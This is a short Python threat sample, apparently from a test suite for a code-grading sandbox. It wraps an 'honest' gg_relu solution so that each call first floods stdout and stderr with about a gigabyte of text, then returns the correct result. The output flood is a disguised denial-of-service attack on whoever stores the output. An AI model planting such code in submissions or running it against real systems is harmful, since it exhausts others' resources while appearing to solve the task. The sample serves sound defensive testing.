"""Threat: a gigabyte of output fills the memory or the disk of who keeps it."""

import os

honest_relu = gg_relu  # noqa: F821 (the honest solution stands before)
written = 0


def gg_relu(x):
    global written
    while written < 1024:
        written += 1
        os.write(1 + written % 2, b"flood " * 174762)
    return honest_relu(x)
